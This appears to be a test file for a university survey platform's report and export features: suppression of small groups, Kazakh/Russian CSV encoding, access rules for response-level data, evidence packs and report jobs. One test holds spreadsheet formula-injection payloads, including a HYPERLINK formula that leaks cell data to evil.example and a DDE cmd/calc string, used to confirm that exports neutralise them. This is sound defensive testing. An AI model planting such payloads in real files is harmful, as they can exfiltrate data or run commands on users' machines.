// Reports and exports on small universities built for each test: a hidden group in no export (nor as a
// total minus the visible rows), formula payloads from a comment and a faculty name inert in XLSX and CSV,
// Kazakh text through the CSV as Excel opens it, who may have response-level data and when (made by a
// report job), the evidence pack, report jobs and the OpenAPI media types.
import { expect } from 'chai';
import { SYSTEM_ACTOR } from '../../server/accounts/actor.js';
import { setCampaignStatus } from '../../server/campaigns/service.js';
import type { CampaignDoc } from '../../server/campaigns/model.js';
import { seededRandom, syntheticAnswers } from '../../server/demo/synthetic.js';
import { getPublishedDefinition } from '../../server/instruments/service.js';
import { translate } from '../../server/lib/i18n/index.js';
import { Faculty } from '../../server/org/models.js';
import { createAction } from '../../server/councils/actions-service.js';
import { saveCouncil } from '../../server/councils/council-service.js';
import { addAgendaItem, createMeeting, recordDecision, setAttendance } from '../../server/councils/meetings-service.js';
import { org } from '../../server/org/service.js';
import type { Segment } from '../../server/responses/segment.js';
import { call, createUser, sessionCookie } from '../support/factories.js';
import { download, openCsvAsExcel, pdfText, readWorkbook, records, squash, unzip, worksheetXml } from '../support/exports.js';
import { apiPicture, expectContentsMatchPages, expectFiguresMatch, expectInOrder, reportFragments, type Results } from '../support/report-checks.js';
import { startTestServer, type TestServer } from '../support/server.js';
import { waitFor } from '../support/wait.js';
import { pdfUnavailable } from '../../server/reports/pdf.js';
import { BOM, cellValue, csvLine } from '../../server/reports/cells.js';
import { expectedResponseRows } from '../support/response-level-oracle.js';
import { buildSurveyWorld, type SurveyWorld } from '../support/survey-fixtures.js';

const K = 5;
/** Text as Handlebars writes it into a page (a JSON attribute's quotes included). */
const escapeHtml = (text: string) => text.replace(/[&<>"'`=]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#x27;', '`': '&#x60;', '=': '&#x3D;' })[c]!);
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

describe('reports and exports', () => {
  let srv: TestServer;
  before(async () => {
    srv = await startTestServer({ SUPPRESSION_K: String(K) });
  });
  after(async () => srv.close());

  /** Stores responses in the given groups (counts: per segment), with answers from a seeded generator. */
  async function answer(world: SurveyWorld, groups: { segment: Segment; count: number; change?: (i: number) => string }[], seed = 7): Promise<void> {
    const def = await getPublishedDefinition(world.campaign.instrument.id, world.campaign.instrument.version);
    const random = seededRandom(seed);
    const responses = groups.flatMap((g) =>
      Array.from({ length: g.count }, (_, i) => {
        const answers = syntheticAnswers(def, random, 3.6);
        if (g.change) answers.change = g.change(i);
        return { answers, segment: g.segment, day: '2025-10-02' };
      }),
    );
    await srv.services.submissions.storeAccepted(world.campaign as CampaignDoc, def, responses);
    await srv.services.writer.flush();
  }

  const adminCookie = async () => sessionCookie(srv.config, await createUser({ role: 'admin' }));
  const json = async <T>(path: string, cookie: string): Promise<T> => {
    const res = await call(srv.url, 'GET', path, { cookie });
    expect(res.status, `${path}: ${res.text.slice(0, 200)}`).to.equal(200);
    return res.json as T;
  };

  it("shows a hidden group's figures in no export, and never as a total minus the visible rows", async function () {
    this.timeout(180_000);
    const world = await buildSurveyWorld({ liveResults: 'counts' });
    const [c1, c2, c3] = world.cohortsA as [string, string, string];
    const [pA1, pA2] = world.programmesA as [string, string];
    // A cohort of 3 beside one of 12: the 3 are hidden, and the 12 with them (the programme minus the 12
    // would be the 3). The other programme's single cohort of 8 is shown.
    await answer(world, [
      { segment: { faculty: world.facultyA, programme: pA1, cohort: c1 }, count: 12 },
      { segment: { faculty: world.facultyA, programme: pA1, cohort: c2 }, count: 3 },
      { segment: { faculty: world.facultyA, programme: pA2, cohort: c3 }, count: 8 },
    ]);
    await setCampaignStatus(SYSTEM_ACTOR, world.campaign._id, 'closed');
    const admin = await adminCookie();
    const id = world.campaign._id;

    const xlsx = await download(`${srv.url}/api/campaigns/${id}/figures.xlsx?lang=en`, admin);
    expect(xlsx.status).to.equal(200);
    const rows = records((await readWorkbook(xlsx.body)).get('Figures')!);
    const api = await apiPicture((path) => json(path, admin), id);
    expectFiguresMatch(api, rows);
    for (const [cohort, reason] of [[c2, 'small'], [c1, 'protects']] as const) {
      const own = rows.filter((r) => r.unit_key === `cohort~${cohort}`);
      expect(own).to.have.length(1);
      expect(own[0]).to.deep.include({ value: null, n: null, note: translate('en', `results.reason.${reason}`, { k: K, count: K }) });
    }
    // No visible group minus its visible parts is a group of fewer than k, in responses or on any question.
    const value = (unit: string, item: string, figure: string) => rows.find((r) => r.unit_key === unit && (r.item_id ?? '') === item && r.figure === figure);
    const shownUnits = api.units.filter((u) => !u.suppressed);
    for (const parent of shownUnits) {
      const parts = shownUnits.filter((u) => u.parent === parent.key);
      const rest = (parent.n ?? 0) - parts.reduce((s, u) => s + (u.n ?? 0), 0);
      expect(rest === 0 || rest >= K, `${parent.key} minus its shown parts: ${rest}`).to.equal(true);
      for (const item of api.results.items.filter((i) => i.type === 'likert')) {
        const own = value(parent.key, item.id, 'mean');
        if (!own || own.n === null) continue;
        const answered = Number(own.n) - parts.reduce((s, u) => s + Number(value(u.key, item.id, 'mean')?.n ?? 0), 0);
        expect(answered === 0 || answered >= K, `${item.id}: ${parent.key} minus its shown parts: ${answered}`).to.equal(true);
      }
    }
    // The response counts of the hidden cohorts are in no row of any export of any group.
    for (const unit of [undefined, `faculty~${world.facultyA}`, `programme~${pA1}`]) {
      const q = unit ? `&unit=${unit}` : '';
      const csv = openCsvAsExcel((await download(`${srv.url}/api/campaigns/${id}/figures.csv?lang=en${q}`, admin)).body);
      const head = csv.rows[0]!;
      for (const r of csv.rows.slice(1).filter((r) => r[head.indexOf('unit_key')]!.startsWith('cohort~') && r[head.indexOf('unit_key')] !== `cohort~${c3}`)) {
        expect(r[head.indexOf('value')], `${r.join(',')}`).to.equal('');
        expect(r[head.indexOf('n')]).to.equal('');
      }
    }

    // The report at the programme: the hidden cohorts marked with why, every figure as the API shows it.
    const atProgramme = await apiPicture((path) => json(path, admin), id, `programme~${pA1}`);
    const pdf = await download(`${srv.url}/api/campaigns/${id}/report.pdf?lang=ru&unit=programme~${pA1}`, admin);
    expect(pdf.status).to.equal(200);
    const { text } = pdfText(pdf.body);
    expectInOrder(text, reportFragments(atProgramme, 'ru'));
    expectContentsMatchPages(text, 'ru');
    expect(squash(text)).to.include(squash(translate('ru', 'results.reason.small', { k: K, count: K })));

    // Response-level data: no row names a hidden cohort; their 15 rows are labelled with the programme.
    const responses = openCsvAsExcel((await download(`${srv.url}/api/campaigns/${id}/responses.csv?lang=en`, admin)).body);
    const [head, ...data] = responses.rows as [string[], ...string[][]];
    expect(head.slice(0, 3)).to.deep.equal(['Faculty', 'Programme', 'Cohort']);
    const names = new Map(api.results.units.map((u) => [u.key, u.name.en]));
    expect(data).to.have.length(23);
    expect(data.filter((r) => r[2] === names.get(`cohort~${c1}`) || r[2] === names.get(`cohort~${c2}`))).to.deep.equal([]);
    expect(data.filter((r) => r[1] === names.get(`programme~${pA1}`) && r[2] === '')).to.have.length(15);
    expect(data.filter((r) => r[2] === names.get(`cohort~${c3}`))).to.have.length(8);
  });

  it('writes formula payloads from a comment and a faculty name as inert text in XLSX and CSV', async function () {
    this.timeout(120_000);
    const world = await buildSurveyWorld({ liveResults: 'counts' });
    const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1,1)', '\t=1+1', '\r=2+2'];
    // Comments are shown with links masked: their payloads carry none, so they come out as written.
    const comments = ['=IMPORTXML(CONCAT(A1,A2),"//a")', ...payloads.slice(1)];
    // The structure forms refuse such names; a name stored before that rule, or written to the database by
    // other means, must still come out inert.
    await Faculty.updateOne({ _id: world.facultyA }, { $set: { name: { kk: payloads[0], ru: payloads[1], en: payloads[3] } } });
    const [pA1] = world.programmesA as [string];
    await answer(world, [{ segment: { faculty: world.facultyA, programme: pA1, cohort: world.cohortsA[0] }, count: 12, change: (i) => comments[i % comments.length]! }]);
    await setCampaignStatus(SYSTEM_ACTOR, world.campaign._id, 'closed');
    const admin = await adminCookie();
    const id = world.campaign._id;
    const unit = `faculty~${world.facultyA}`;
    for (const lang of ['kk', 'ru', 'en'] as const) {
      const facultyName = lang === 'kk' ? payloads[0]! : lang === 'ru' ? payloads[1]! : payloads[3]!;
      for (const path of [`/api/campaigns/${id}/figures.xlsx?lang=${lang}&unit=${unit}`, `/api/campaigns/${id}/responses.xlsx?lang=${lang}`]) {
        const file = await download(`${srv.url}${path}`, admin);
        expect(file.status, path).to.equal(200);
        // No formula anywhere in the sheets as Excel reads them, and every payload is text with a quote first.
        expect(await worksheetXml(file.body), path).not.to.match(/<f[ >]/);
        const cells = [...(await readWorkbook(file.body)).values()].flat(2).filter((v): v is string => typeof v === 'string');
        expect(cells.filter((v) => /^[=+\-@\t\r]/.test(v)), path).to.deep.equal([]);
        expect(cells, path).to.include(`'${facultyName}`);
        // (XML keeps no carriage return: a reader sees a line feed, still after the quote.)
        if (path.includes('figures')) for (const p of comments) expect(cells, `${path}: comment ${JSON.stringify(p)}`).to.include(`'${p.replace(/\r/g, '\n')}`);
      }
      for (const path of [`/api/campaigns/${id}/figures.csv?lang=${lang}&unit=${unit}`, `/api/campaigns/${id}/responses.csv?lang=${lang}`, `/api/campaigns/${id}/figures.csv?lang=${lang}&unit=${unit}&separator=semicolon`]) {
        const file = await download(`${srv.url}${path}`, admin);
        expect(file.status, path).to.equal(200);
        const { rows } = openCsvAsExcel(file.body, path.includes('semicolon') ? ';' : ',');
        const cells = rows.flat();
        // A negative figure (an NPS) is a number, which a spreadsheet reads as one: only text is suspect.
        expect(cells.filter((v) => /^[=+\-@\t\r]/.test(v) && !/^-\d+([.,]\d+)?$/.test(v)), path).to.deep.equal([]);
        expect(cells, path).to.include(`'${facultyName}`);
      }
    }
    // The figures CSV has the comments nowhere (they are in the XLSX's comments sheet): its cells are unit
    // names, question texts and numbers. The report shows them as text.
    const pdf = await download(`${srv.url}/api/campaigns/${id}/report.pdf?lang=kk&unit=${unit}`, admin);
    expect(pdf.status).to.equal(200);
    expect(squash(pdfText(pdf.body).text)).to.include(squash(payloads[0]!));
  });

  it('carries Kazakh and Russian text through the CSV as Excel opens it (UTF-8 with a byte order mark)', async () => {
    const world = await buildSurveyWorld({ liveResults: 'counts' });
    const kazakh = 'Әлеуметтік ғылымдар және құқық: ң ө ұ ү һ і';
    await org.faculties.update(SYSTEM_ACTOR, world.facultyA, { name: { kk: kazakh, ru: 'Социальные науки и право: ё ъ', en: 'Social sciences and law' } });
    const [pA1] = world.programmesA as [string];
    await answer(world, [{ segment: { faculty: world.facultyA, programme: pA1, cohort: world.cohortsA[0] }, count: 10 }]);
    await setCampaignStatus(SYSTEM_ACTOR, world.campaign._id, 'closed');
    const admin = await adminCookie();
    const id = world.campaign._id;
    for (const path of [`/api/campaigns/${id}/figures.csv?lang=kk`, `/api/campaigns/${id}/responses.csv?lang=kk`, `/api/campaigns/${id}/figures.csv?lang=kk&separator=semicolon`]) {
      const file = await download(`${srv.url}${path}`, admin);
      expect(file.body.subarray(0, 3), `${path}: byte order mark`).to.deep.equal(Buffer.from([0xef, 0xbb, 0xbf]));
      const excel = openCsvAsExcel(file.body, path.includes('semicolon') ? ';' : ',');
      expect(excel.bom).to.equal(true);
      expect(excel.rows.flat(), path).to.include(kazakh);
      // The question texts come through too, in Kazakh.
      const def = await getPublishedDefinition('student-satisfaction', 1);
      if (path.includes('figures')) expect(excel.rows.flat()).to.include(def.pages[0]!.items[0]!.text.kk);
    }
    const ru = openCsvAsExcel((await download(`${srv.url}/api/campaigns/${id}/figures.csv?lang=ru&separator=semicolon`, admin)).body, ';');
    expect(ru.rows.flat()).to.include('Социальные науки и право: ё ъ');
    // Decimal commas in the semicolon variant (as Excel in kk/ru locales reads numbers).
    const head = ru.rows[0]!;
    const shares = ru.rows.slice(1).map((r) => r[head.indexOf('value')]!).filter((v) => v.includes(','));
    expect(shares.length).to.be.greaterThan(0);
    expect(shares.every((v) => /^-?\d+,\d+$/.test(v))).to.equal(true);
  });

  it('refuses response-level data before closing, and for a survey that showed live figures', async function () {
    this.timeout(60_000);
    const admin = await adminCookie();
    // A survey with live figures: its cuts were shown while it was open.
    const live = await buildSurveyWorld({ liveResults: 'figures' });
    const [pA1, pA2] = live.programmesA as [string, string];
    await answer(live, [{ segment: { faculty: live.facultyA, programme: pA1, cohort: live.cohortsA[0] }, count: 12 }]);
    await waitFor('the live cut', async () => (await json<Results>(`/api/campaigns/${live.campaign._id}/results`, admin)).units.find((u) => u.key === 'university')?.n === 12);
    let res = await call(srv.url, 'GET', `/api/campaigns/${live.campaign._id}/responses.csv`, { cookie: admin });
    expect(res.status).to.equal(409);
    expect((res.json as { error: { code: string } }).error.code).to.equal('not_closed');
    await setCampaignStatus(SYSTEM_ACTOR, live.campaign._id, 'closed');
    res = await call(srv.url, 'GET', `/api/campaigns/${live.campaign._id}/responses.xlsx`, { cookie: admin });
    expect(res.status).to.equal(409);
    expect((res.json as { error: { code: string } }).error.code).to.equal('live_figures_shown');
    // The exports page says why, and does not offer the files.
    const page = await call(srv.url, 'GET', `/results/${live.campaign._id}/exports`, { cookie: admin });
    expect(page.text).to.include(translate('en', 'reports.exports.responsesNot.live_figures_shown'));
    expect(page.text).not.to.include(`/api/campaigns/${live.campaign._id}/responses.csv`);
    void pA2;
  });

  it('gives response-level data of a closed counts-only survey to admins only: no day, language, open text or order', async () => {
    const admin = await adminCookie();
    const counts = await buildSurveyWorldAgain();
    const council = sessionCookie(srv.config, await createUser({ role: 'council', faculties: [counts.facultyA] }));
    expect((await call(srv.url, 'GET', `/api/campaigns/${counts.campaign._id}/responses.csv`, { cookie: council })).status).to.equal(403);
    expect((await call(srv.url, 'GET', `/api/campaigns/${counts.campaign._id}/responses.xlsx`, { cookie: council })).status).to.equal(403);
    const csv = await download(`${srv.url}/api/campaigns/${counts.campaign._id}/responses.csv?lang=en`, admin);
    expect(csv.status).to.equal(200);
    const { rows } = openCsvAsExcel(csv.body);
    const [head, ...data] = rows as [string[], ...string[][]];
    const def = await getPublishedDefinition('student-satisfaction', 1);
    // Unit columns, then question ids: no day, language, id or open text.
    expect(head.slice(0, 3)).to.deep.equal(['Faculty', 'Programme', 'Cohort']);
    const itemIds = head.slice(3);
    expect(itemIds).not.to.include('change');
    expect(itemIds.every((h) => def.pages.some((p) => p.items.some((i) => i.id === h || (i.type === 'matrix' && i.rows.some((r) => r.id === h)))))).to.equal(true);
    expect(csv.body.toString('utf8')).not.to.match(/\d{4}-\d{2}-\d{2}|\b(kk|ru|en)\b/);
    // Sorted by group and answers: a function of the responses, not of the order they were stored in.
    const keys = data.map((r) => r.join('\u0001'));
    const groups = data.map((r) => r.slice(0, 3).join('/'));
    for (let i = 1; i < data.length; i++) if (groups[i] === groups[i - 1]) expect(keys[i]! >= keys[i - 1]!, `row ${i} is out of order`).to.equal(true);
    expect(data).to.have.length(20);
  });

  /** A closed counts-only survey of 20 responses in two cohorts. */
  async function buildSurveyWorldAgain(): Promise<SurveyWorld> {
    const w = await buildSurveyWorld({ liveResults: 'counts' });
    const [pA1] = w.programmesA as [string];
    await answer(w, [
      { segment: { faculty: w.facultyA, programme: pA1, cohort: w.cohortsA[0] }, count: 12 },
      { segment: { faculty: w.facultyA, programme: pA1, cohort: w.cohortsA[1] }, count: 8 },
    ]);
    await setCampaignStatus(SYSTEM_ACTOR, w.campaign._id, 'closed');
    return w;
  }

  it('packs the evidence of a programme: questionnaires and council reports as PDF, figures as XLSX, the survey plan with response rates', async function () {
    this.timeout(180_000);
    const world = await buildSurveyWorldAgain();
    const [pA1] = world.programmesA as [string];
    const council = sessionCookie(srv.config, await createUser({ role: 'council', faculties: [world.facultyA] }));
    const pack = await download(`${srv.url}/api/programmes/${pA1}/evidence.zip?year=2025-2026&lang=ru`, council);
    expect(pack.status, pack.body.toString().slice(0, 300)).to.equal(200);
    expect(pack.type).to.equal('application/zip');
    const files = await unzip(pack.body);
    const names = [...files.keys()].sort();
    expect(names).to.include.members(['0-README.txt', '0-survey-plan-and-response-rates.xlsx', '1-instruments/student-satisfaction-v1.pdf']);
    const report = names.find((n) => n.startsWith('2-reports/') && n.endsWith('.pdf'))!;
    const figures = names.find((n) => n.startsWith('3-figures/') && n.endsWith('.xlsx'))!;
    expect(report).to.include(world.campaign._id);
    expect(figures).to.include(world.campaign._id);
    // The questionnaire is the printable one, in the pack's language.
    const def = await getPublishedDefinition('student-satisfaction', 1);
    expect(squash(pdfText(files.get('1-instruments/student-satisfaction-v1.pdf')!).text)).to.include(squash(def.pages[0]!.items[0]!.text.ru));
    // The report is the council report at the programme, with the API's figures.
    const api = await apiPicture((path) => json(path, council), world.campaign._id, `programme~${pA1}`);
    expectInOrder(pdfText(files.get(report)!).text, reportFragments(api, 'ru'));
    expectFiguresMatch(api, records([...(await readWorkbook(files.get(figures)!)).values()][0]!));
    // The survey plan: the campaign, its dates and the programme's response rate.
    const plan = records([...(await readWorkbook(files.get('0-survey-plan-and-response-rates.xlsx')!)).values()][0]!);
    expect(plan).to.have.length(1);
    const programme = api.results.units.find((u) => u.key === `programme~${pA1}`)!;
    const row = Object.values(plan[0]!);
    expect(row).to.include(world.campaign.title.ru);
    expect(row).to.include(programme.n);
    expect(row.some((v) => typeof v === 'number' && Math.abs(v - programme.rate!) < 1e-12)).to.equal(true);
    const readme = files.get('0-README.txt')!.toString('utf8');
    expect(readme.charCodeAt(0)).to.equal(0xfeff);
    for (const name of names) expect(readme).to.include(name);
    // Another faculty's council member cannot have it.
    const other = sessionCookie(srv.config, await createUser({ role: 'council', faculties: [world.facultyB] }));
    expect((await call(srv.url, 'GET', `/api/programmes/${pA1}/evidence.zip?year=2025-2026`, { cookie: other })).status).to.equal(404);
  });

  it("puts the council's decisions and actions on these results into the report, its action register into the evidence pack, and prints its minutes", async function () {
    this.timeout(240_000);
    const world = await buildSurveyWorldAgain();
    const [pA1] = world.programmesA as [string];
    const secretary = await createUser({ role: 'council', faculties: [world.facultyA] });
    const council = sessionCookie(srv.config, secretary);
    const actor = { userId: secretary._id, role: 'council' as const, email: secretary.email, name: secretary.name, lang: 'en' as const, faculties: [world.facultyA], programmes: [] };
    const members = await saveCouncil(actor, world.facultyA, {
      quorum: 0.5,
      members: [
        { name: 'Әлия Сәрсенова', group: 'teacher', role: 'chair' },
        { name: 'Secretary', userId: secretary._id, group: 'academic_staff', role: 'secretary' },
        { name: 'Данияр Өмірзақ', group: 'student_bachelor', role: 'member' },
      ],
    });
    let meeting = await createMeeting(actor, world.facultyA, { date: '2026-01-20', title: 'Нәтижелерді талқылау', lang: 'kk', status: 'held' });
    meeting = await setAttendance(actor, meeting._id, members.members.map((m) => m.id));
    meeting = await addAgendaItem(actor, srv.services.analytics, meeting._id, { campaign: world.campaign._id, unit: `programme~${pA1}`, item: 'voice_acted' });
    const item = meeting.agenda[0]!;
    const rationale = 'Пікірлер ескерілмейді деген жауаптар көп: бағдарламаны жаңарту керек.';
    await recordDecision(actor, meeting._id, item.id, { kind: 'update_programme', unit: pA1, rationale, stakeholderComments: 'Студенттер кеңесінің ұсыныстары', votes: { for: 2, against: 0, abstain: 1 } });
    const title = 'Семестр сайын «сіз айттыңыз — біз істедік» хабарламасы';
    await createAction(actor, world.facultyA, { title, kind: 'corrective', programme: pA1, owner: secretary._id, dueOn: '2026-03-01', status: 'in_progress', meeting: meeting._id, agendaItem: item.id, targets: [{ campaign: world.campaign._id, unit: `programme~${pA1}`, item: 'voice_acted' }] });

    // The council report at the programme: its own chapter with the decision and the action.
    const pdf = await download(`${srv.url}/api/campaigns/${world.campaign._id}/report.pdf?lang=kk&unit=programme~${pA1}`, council);
    expect(pdf.status).to.equal(200);
    const { text } = pdfText(pdf.body);
    expectContentsMatchPages(text, 'kk');
    const chapter = squash(text).slice(squash(text).lastIndexOf(squash(translate('kk', 'reports.chapter.council'))));
    for (const fragment of [rationale, translate('kk', 'councils.decision.update_programme'), translate('kk', 'councils.decision.votes', { for: 2, against: 0, abstain: 1 }), title, translate('kk', 'councils.followUp.noNextWave')]) expect(chapter, fragment).to.include(squash(fragment));
    // A report at another faculty's level would show nothing of it; at the university, an admin sees it too.
    const admin = await adminCookie();
    const university = pdfText((await download(`${srv.url}/api/campaigns/${world.campaign._id}/report.pdf?lang=kk`, admin)).body).text;
    expect(squash(university)).to.include(squash(rationale));

    // The evidence pack's action register: the action, its decision and its follow-up.
    const pack = await unzip((await download(`${srv.url}/api/programmes/${pA1}/evidence.zip?year=2025-2026&lang=kk`, council)).body);
    const register = records([...(await readWorkbook(pack.get('4-action-register.xlsx')!)).values()][0]!);
    expect(register).to.have.length(1);
    expect(Object.values(register[0]!)).to.include.members([title, translate('kk', 'councils.status.in_progress'), '2026-03-01']);
    expect(String(Object.values(register[0]!).find((v) => String(v).includes(meeting.date)))).to.include(meeting.title);

    // The minutes as PDF, in the meeting's language, for those who may read the meeting.
    const minutes = await download(`${srv.url}/api/meetings/${meeting._id}/minutes.pdf?lang=en`, council);
    expect(minutes.status).to.equal(200);
    expect(minutes.type).to.equal('application/pdf');
    const minutesText = squash(pdfText(minutes.body).text);
    for (const fragment of [translate('kk', 'councils.minutes.title'), meeting.title, 'Әлия Сәрсенова', rationale, title]) expect(minutesText, fragment).to.include(squash(fragment));
    // The decision names the programme it updates (never by its id), and the footer dates the meeting as kk writes days.
    expect(minutesText).to.include(squash(`${translate('kk', 'councils.decision.update_programme')} — Informatics (kk).`));
    expect(minutesText).not.to.include(pA1);
    expect(minutesText).to.include(squash(`${translate('kk', 'councils.minutes.title')} — 20.01.2026`));
    const other = sessionCookie(srv.config, await createUser({ role: 'council', faculties: [world.facultyB] }));
    const leader = sessionCookie(srv.config, await createUser({ role: 'programme_leader', programmes: [pA1] }));
    expect((await call(srv.url, 'GET', `/api/meetings/${meeting._id}/minutes.pdf`, { cookie: other })).status).to.equal(404);
    expect((await call(srv.url, 'GET', `/api/meetings/${meeting._id}/minutes.pdf`, { cookie: leader })).status).to.equal(404);
    expect((await call(srv.url, 'GET', '/api/meetings/mtg00000000000000/minutes.pdf', { cookie: council })).status).to.equal(404);
    // The meeting page and the minutes page link the PDF.
    for (const page of [`/meetings/${meeting._id}`, `/meetings/${meeting._id}/minutes`]) expect((await call(srv.url, 'GET', page, { cookie: council })).text, page).to.include(`/api/meetings/${meeting._id}/minutes.pdf`);
    // A programme leader's report of the programme has no decisions they may not read (meetings are the faculty's), but the action of their programme.
    const leaderText = squash(pdfText((await download(`${srv.url}/api/campaigns/${world.campaign._id}/report.pdf?lang=kk&unit=programme~${pA1}`, leader)).body).text);
    expect(leaderText).not.to.include(squash(rationale));
    expect(leaderText).to.include(squash(title));
  });

  it('runs a council report as a job: progress while it is made, the file for its owner only', async function () {
    this.timeout(120_000);
    const world = await buildSurveyWorldAgain();
    const owner = await createUser({ role: 'council', faculties: [world.facultyA] });
    const council = sessionCookie(srv.config, owner);
    const started = await call(srv.url, 'POST', '/api/report-jobs', { cookie: council, body: { kind: 'report', campaign: world.campaign._id, lang: 'kk' } });
    expect(started.status, started.text).to.equal(202);
    type Job = { id: string; state: string; progress: { done: number; total: number; step: string }; file?: { url: string; type: string; size: number } };
    const job = started.json as Job;
    expect(job.progress.step).to.be.a('string').and.not.equal('');
    const steps = new Set<string>();
    const done = await waitFor(
      'the report job',
      async () => {
        const polled = (await call(srv.url, 'GET', `/api/report-jobs/${job.id}`, { cookie: council })).json as Job;
        steps.add(polled.progress.step);
        return polled.state === 'done' ? polled : undefined;
      },
      { timeout: 100_000, interval: 200 },
    );
    expect(done.file?.type).to.equal('application/pdf');
    const file = await download(`${srv.url}${done.file!.url}`, council);
    expect(file.status).to.equal(200);
    expect(file.body.subarray(0, 5).toString()).to.equal('%PDF-');
    expect(file.body.length).to.equal(done.file!.size);
    // A download link answers 202 with the job when the file takes longer than it waits (20 s; here none).
    srv.services.reports.downloadWaitMs = 0;
    try {
      const slow = await call(srv.url, 'GET', `/api/campaigns/${world.campaign._id}/report.pdf?lang=ru`, { cookie: council });
      expect(slow.status).to.equal(202);
      expect(slow.headers.get('location')).to.match(/^\/api\/report-jobs\/j[0-9a-z]{20}$/);
      expect((slow.json as Job).state).to.be.oneOf(['queued', 'running']);
    } finally {
      srv.services.reports.downloadWaitMs = 20_000;
    }
    // Without JavaScript: the exports page's link starts the job and shows its page, which refreshes itself
    // until the file is ready and then links it.
    const start = await fetch(`${srv.url}/results/${world.campaign._id}/report/start?lang=en`, { headers: { cookie: council }, redirect: 'manual' });
    expect(start.status).to.equal(303);
    const jobPage = new URL(start.headers.get('location')!, srv.url).toString();
    expect(jobPage).to.match(/\/reports\/jobs\/j[0-9a-z]{20}$/);
    const first = await call(srv.url, 'GET', new URL(jobPage).pathname, { cookie: council });
    expect(first.status).to.equal(200);
    expect(first.text).to.match(/<meta http-equiv="refresh" content="2">|href="\/api\/report-jobs\/j[0-9a-z]{20}\/file"/);
    const ready = await waitFor('the job page to link the file', async () => {
      const page = await call(srv.url, 'GET', new URL(jobPage).pathname, { cookie: council });
      return page.text.includes('/file"') ? page.text : undefined;
    }, { timeout: 120_000, interval: 500 });
    expect(ready).not.to.include('http-equiv="refresh"');

    // A job that failed says why on its page in the page's language (the API's message stays English).
    const failed = srv.services.reports.jobs.submit(owner._id, 'report', 'queued', () => Promise.reject(pdfUnavailable('/nowhere/chromium')));
    await waitFor('the job to fail', () => Promise.resolve(srv.services.reports.jobs.get(owner._id, failed.id).state === 'failed' ? true : undefined));
    const failedPage = await call(srv.url, 'GET', `/reports/jobs/${failed.id}?lang=kk`, { cookie: council });
    expect(failedPage.text).to.include(translate('kk', 'errors.pdf_unavailable.text'));
    expect(failedPage.text).not.to.include('/nowhere/chromium');
    // The exports page carries the same texts for its script.
    expect((await call(srv.url, 'GET', `/results/${world.campaign._id}/exports?lang=ru`, { cookie: council })).text).to.include(escapeHtml(translate('ru', 'errors.too_many_jobs.text')));

    // Its owner only: another account (an admin included) gets 404, as for a job that does not exist.
    const admin = await adminCookie();
    expect((await call(srv.url, 'GET', `/api/report-jobs/${job.id}`, { cookie: admin })).status).to.equal(404);
    expect((await call(srv.url, 'GET', `/api/report-jobs/${job.id}/file`, { cookie: admin })).status).to.equal(404);
  });

  it('makes response-level data as a report job: 403 and 409 at once with no job, queued, then its file for its owner only, also from the exports page without JavaScript', async function () {
    this.timeout(120_000);
    type Job = { id: string; kind: string; state: string; progress: { done: number; total: number; step: string }; file?: { name: string; url: string; type: string; size: number } };
    const jobs = srv.services.reports.jobs;
    const adminUser = await createUser({ role: 'admin' });
    const admin = sessionCookie(srv.config, adminUser);
    // A counts-only survey of 20 responses in two cohorts, still open.
    const world = await buildSurveyWorld({ liveResults: 'counts' });
    const id = world.campaign._id;
    const [pA1] = world.programmesA as [string];
    await answer(world, [
      { segment: { faculty: world.facultyA, programme: pA1, cohort: world.cohortsA[0] }, count: 12 },
      { segment: { faculty: world.facultyA, programme: pA1, cohort: world.cohortsA[1] }, count: 8 },
    ]);

    // Refused at once, before any job is queued: an open survey (409), a council member (403).
    const refused = await call(srv.url, 'GET', `/api/campaigns/${id}/responses.csv`, { cookie: admin });
    expect(refused.status).to.equal(409);
    expect((refused.json as { error: { code: string } }).error.code).to.equal('not_closed');
    const refusedPage = await call(srv.url, 'GET', `/results/${id}/responses/start?format=xlsx&lang=ru`, { cookie: admin });
    expect(refusedPage.status).to.equal(409);
    expect(refusedPage.text).to.include(translate('ru', 'errors.not_closed.text'));
    expect((await call(srv.url, 'POST', '/api/report-jobs', { cookie: admin, body: { kind: 'responses', campaign: id, format: 'xlsx' } })).status).to.equal(409);
    expect(jobs.list(adminUser._id)).to.deep.equal([]);
    await setCampaignStatus(SYSTEM_ACTOR, id, 'closed');
    const councilUser = await createUser({ role: 'council', faculties: [world.facultyA] });
    const council = sessionCookie(srv.config, councilUser);
    for (const path of [`/api/campaigns/${id}/responses.csv`, `/api/campaigns/${id}/responses.xlsx`, `/results/${id}/responses/start?format=csv`]) expect((await call(srv.url, 'GET', path, { cookie: council })).status, path).to.equal(403);
    expect((await call(srv.url, 'POST', '/api/report-jobs', { cookie: council, body: { kind: 'responses', campaign: id, format: 'csv' } })).status).to.equal(403);
    expect(jobs.list(councilUser._id)).to.deep.equal([]);

    // Behind another report: the download answers 202 with the job, queued, then it reads, writes and is done.
    const expected = await expectedResponseRows(id, 'en', K);
    const expectedCsv = BOM + csvLine(expected.head) + expected.rows.map((r) => csvLine(r)).join('');
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    jobs.submit('someone-else', 'report', 'queued', async () => (await held, { name: 'x.pdf', type: 'application/pdf', body: Buffer.from('%PDF-') }));
    srv.services.reports.downloadWaitMs = 0;
    let job: Job;
    try {
      const first = await call(srv.url, 'GET', `/api/campaigns/${id}/responses.csv?lang=en`, { cookie: admin });
      expect(first.status).to.equal(202);
      expect(first.headers.get('location')).to.match(/^\/api\/report-jobs\/j[0-9a-z]{20}$/);
      job = first.json as Job;
      expect(job).to.deep.include({ kind: 'responses', state: 'queued' });
      expect(job.progress.step).to.equal(translate('en', 'reports.job.queued'));
    } finally {
      srv.services.reports.downloadWaitMs = 20_000;
      release();
    }
    const done = await waitFor('the responses job', async () => {
      const polled = (await call(srv.url, 'GET', `/api/report-jobs/${job.id}`, { cookie: admin })).json as Job;
      return polled.state === 'done' ? polled : undefined;
    }, { timeout: 60_000, interval: 100 });
    expect(done.progress).to.deep.equal({ step: translate('en', 'reports.job.writing', { done: expected.rows.length, total: expected.rows.length }), done: 40, total: 40 });
    expect(done.file).to.deep.include({ name: `pikir-${id}-university-responses.csv`, type: 'text/csv; charset=utf-8' });
    const csv = await download(`${srv.url}${done.file!.url}`, admin);
    expect(csv.status).to.equal(200);
